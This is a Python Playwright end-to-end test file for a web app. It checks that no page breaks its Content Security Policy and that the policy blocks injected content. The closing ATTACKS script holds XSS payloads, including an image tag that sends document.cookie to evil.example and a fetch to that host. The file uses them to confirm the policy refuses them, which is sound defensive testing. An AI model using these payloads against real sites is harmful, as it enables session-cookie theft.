"""No page asks for more than its policy allows: whatever pages there are, signed out and in."""

import re
from collections import deque
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Error, Page

from practice_app.ids import new_id
from practice_app.pages import PAGES
from tests.browser import until
from tests.e2e.conftest import Phone
from tests.e2e.test_journal import practised

pytestmark = [pytest.mark.browser, pytest.mark.stores]

TELLS = """addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample, sourceFile }) =>
  violated([violatedDirective, blockedURI, sample, sourceFile].join(" ")));"""
ALIVE = """async () => self.woodshed?.started && (await navigator.serviceWorker.ready)
  && document.readyState === "complete" && new Promise((done) => requestIdleCallback(() => done(true)))"""

TABS = 4


def addresses(*, signed_in: bool) -> Iterator[str]:
    """Every route that the app has, with somebody or something that isn't there where it asks for one.

    Signed out, those that load what is one's own all lead to the same page: two of them stand for all.
    """
    pages = [page for page in PAGES if page.route.startswith("/")]
    own = [page for page in pages if page.on_load]
    assert min(len(pages) - len(own), len(own)) > 5
    for page in pages if signed_in else [page for page in pages if page not in own[2:]]:
        yield re.sub(r"\[+[^\]]*\]+", str(new_id()), page.route)
    yield "/nothing/is/here"


class Watched:
    """A browser that notes whatever a policy refuses, and what breaks."""

    def __init__(self, phone: Phone) -> None:
        self.phone: Phone = phone
        self.refused: list[str] = []
        phone.context.expose_binding("violated", lambda source, what: self._note(source["page"], what))
        phone.context.add_init_script(TELLS)

    def _note(self, page: Page, what: object) -> None:
        self.refused.append(f"{page.url}: {what}")

    def open(self, path: str) -> Page:
        """Open a page that stays open."""
        page = self.phone.open(path)
        page.on("pageerror", lambda error: self._note(page, error))
        return page

    def walk(self, *, signed_in: bool) -> None:
        """Open every page, in a few tabs by turns: what the server tells them comes while others open."""
        tabs: deque[Page] = deque()
        for path in addresses(signed_in=signed_in):
            if len(tabs) < TABS:
                tabs.append(self.open(path))
                continue
            tabs.rotate(-1)
            until(tabs[-1], ALIVE)
            gone_to(tabs[-1], self.phone.url + path)
        for tab in tabs:
            until(tab, ALIVE)
            tab.close()


def gone_to(tab: Page, address: str) -> None:
    """Lead a tab to another page, also when the one it shows is just leading it elsewhere."""
    try:
        tab.goto(address)
    except Error as interrupted:
        if "interrupted" not in str(interrupted):
            raise
        tab.goto(address)


@pytest.fixture
def watched(new_phone: Callable[..., Phone]) -> Watched:
    """A browser in Korean: its pages bring a catalog, which is a script more."""
    phone = new_phone()
    phone.context.add_cookies([{"name": "woodshed_locale", "value": "ko", "url": phone.url}])
    return Watched(phone)


@pytest.mark.long
def test_no_page_asks_for_what_its_policy_refuses(watched: Watched):
    watched.walk(signed_in=False)
    ann = watched.phone.register()
    watched.walk(signed_in=True)
    page = watched.open(f"/sessions/{practised(watched.phone)}")
    page.get_by_test_id("session-clock").wait_for()
    for address in ("/pieces", "/", "/settings"):  # drawn by a page that is there already
        page.locator(f"a[href='{address}']").filter(visible=True).first.click()
        page.wait_for_url(watched.phone.url + address)
        until(page, ALIVE)
    page.goto(f"{watched.phone.url}/users/{ann.user_id}")  # written by the server, with no script
    page.get_by_role("heading", name="Ann").wait_for()
    page.goto(f"{watched.phone.url}/api/v1/docs")
    page.locator(".opblock").first.wait_for()
    assert watched.refused == []


def test_the_policy_refuses_what_is_none_of_ours(watched: Watched):
    page = watched.open("/login")
    until(page, ALIVE)
    page.evaluate(ATTACKS)
    until(page, "self.done === 4")
    page.wait_for_timeout(100)
    refused = " ".join(watched.refused)
    assert all(kind in refused for kind in ("trusted-types", "style-src-attr", "connect-src", "img-src"))
    assert page.evaluate("self.stolen") is None


ATTACKS = """() => {
  self.done = 0;
  const attempt = (action) => { try { action(); } catch { /* refused */ } finally { self.done++; } };
  const drawn = (name, told) => document.body.append(Object.assign(document.createElement(name), told));
  attempt(() => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='self.stolen = 1'>"));
  attempt(() => drawn("script", { textContent: "self.stolen = 2" }));
  attempt(() => document.body.setAttribute("style", "color: red"));
  attempt(() => drawn("img", { src: "https://evil.example/?" + document.cookie }));
  fetch("https://evil.example/").catch(() => {});
}"""
